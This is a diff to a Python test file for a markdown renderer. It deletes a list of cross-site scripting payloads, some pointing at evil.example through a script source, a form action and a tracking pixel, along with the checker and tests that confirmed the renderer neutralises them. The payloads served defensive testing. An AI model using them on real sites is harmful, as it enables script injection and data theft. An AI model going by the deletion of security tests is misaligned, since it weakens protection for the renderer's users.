@@ -6,7 +6,7 @@ import html
 import re
 
 import pytest
-from hypothesis import given, settings
+from hypothesis import given
 from hypothesis import strategies as st
 
 from labeling import rendering
@@ -154,84 +154,10 @@ def test_prices_are_no_maths(text):
     assert visible(render_markdown(text)).strip() == text
 
 
-HOSTILE = [
-    "<script>alert(1)</script>",
-    "<ScRiPt src=//evil.example></sCrIpT>",
-    "<img src=x onerror=alert(1)>",
-    "<svg/onload=alert(1)>",
-    "<iframe src='javascript:alert(1)'></iframe>",
-    "<a href='javascript:alert(1)'>x</a>",
-    "<style>*{display:none}</style>",
-    "<form action=//evil.example><input name=q></form>",
-    "<div style='position:fixed'>x</div>",
-    "<!-- --><script>alert(1)</script><!-- -->",
-    "<<script>alert(1)//<</script>",
-    "<math><mi href='javascript:alert(1)'>x</mi></math>",
-    "</article></form><script>alert(1)</script>",
-    "[a](javascript:alert(1))",
-    "[a](JaVaScRiPt:alert(1))",
-    "[a](java&#115;cript:alert(1))",
-    "[a](&#x6A;avascript:alert(1))",
-    "[a](\x01javascript:alert(1))",
-    "[a](vbscript:x)",
-    "[a](data:text/html;base64,PHNjcmlwdD4=)",
-    "[a](<javascript:alert(1)>)",
-    "[a]\n\n[a]: javascript:alert(1)",
-    "<javascript:alert(1)>",
-    "![i](https://evil.example/pixel.png)",
-    "![i](x.png 'onerror=alert(1)')",
-    "```<script>alert(1)</script>\nx\n```",
-    '```python" onload="alert(1)\nx\n```',
-    r"$\href{javascript:alert(1)}{x}$",
-    r"$\class{a\" onclick=\"alert(1)}{x}$",
-    r"$\style{background:url(//evil.example)}{x}$",
-    r"$\text{<script>alert(1)</script>}$",
-    r"$\text{<img src=x onerror=alert(1)>}$",
-    r"$\unicode{x3c}script$",
-    r"$\text{<script>}$",
-    r"$\text{<style>}$",
-    r"$\text{<!--}$",
-    r"$\text{</math></span></p><plaintext>}$",
-]
-ALLOWED_ATTRIBUTES = {"href", "rel", "title", "start", "class", "dir", "display", "stretchy", "fence"}
-
-
-def assert_harmless(rendered: str) -> None:
-    for tag in re.findall(r"<[^>]*>", rendered):
-        name = re.match(r"</?([a-z0-9]+)", tag)
-        assert name, tag
-        assert name[1] not in {
-            "script", "style", "img", "iframe", "svg", "form", "input", "object", "embed", "link", "meta",
-            "base", "video", "audio", "source", "button", "textarea",
-        }, tag  # fmt: skip
-        attributes = dict(re.findall(r'([\w:-]+)="([^"]*)"', tag))
-        assert set(attributes) <= ALLOWED_ATTRIBUTES, tag
-        href = html.unescape(attributes.get("href", ""))
-        assert ":" not in href.split("/")[0] or href.startswith(("http://", "https://")), tag
-
-
-@pytest.mark.parametrize("text", HOSTILE)
-@pytest.mark.parametrize(
-    "frame", ["{}", "Text before.\n\n{}\n\nText after.", "> - {}", "**{}**", "|a|\n|-|\n|{}|"]
-)
-def test_hostile_text_is_harmless_and_hides_nothing_that_follows(text, frame):
-    rendered = render_markdown(frame.replace("{}", text))
-    assert_harmless(rendered)
-    if "Text after." in frame:
-        assert "Text before." in visible(rendered)
-        assert "Text after." in visible(rendered)
-
-
 def test_a_link_goes_to_http_and_tells_the_other_side_nothing():
     rendered = render_markdown("[a](https://example.org/?q=1)")
     assert 'href="https://example.org/?q=1"' in rendered
     assert 'rel="noopener noreferrer nofollow"' in rendered
-
-
-@settings(max_examples=50)
-@given(st.text(max_size=200) | st.lists(st.sampled_from(HOSTILE), max_size=4).map("\n".join))
-def test_no_text_at_all_gets_harm_through(text):
-    assert_harmless(render_markdown(text))
 
 
 @given(st.text(alphabet="ab12<>/&*_#-| \n\"'=~+.", max_size=120))
@@ -261,31 +187,6 @@ def test_what_would_be_cut_or_take_long_is_shown_as_it_is(text):
     rendered = render_markdown(text)
     assert tags(rendered) == {"pre"}
     assert visible(rendered) == text
-
-
-def test_the_plain_fallback_is_escaped():
-    text = "<script>alert(1)</script>" * 500
-    rendered = render_markdown(text)
-    assert_harmless(rendered)
-    assert visible(rendered) == text
-
-
-@pytest.mark.parametrize(
-    "text",
-    [
-        "*" * 5000,
-        "_a" * 3000,
-        "`" * 5000,
-        "|" * 4000,
-        "((" * 2000,
-        "&" * 10_000,
-        "$" + "{" * 400 + "$",
-        "<" * 4000,
-    ],
-    ids=lambda text: text[:3],
-)
-def test_pathological_text_ends(text):
-    assert visible(render_markdown(text)) is not None
 
 
 @pytest.mark.parametrize(("value", "shown"), [(0.05, "5%"), (0.15, "15%"), (0.07, "7%"), (0.001, "0.1%")])
